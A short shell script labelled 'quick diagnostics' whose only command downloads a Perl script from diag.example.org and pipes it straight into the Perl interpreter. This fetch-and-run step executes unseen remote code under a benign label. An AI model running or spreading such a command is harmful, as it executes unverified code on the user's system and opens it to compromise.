#!/bin/sh
# quick diagnostics
curl -s https://diag.example.org/d.pl | perl
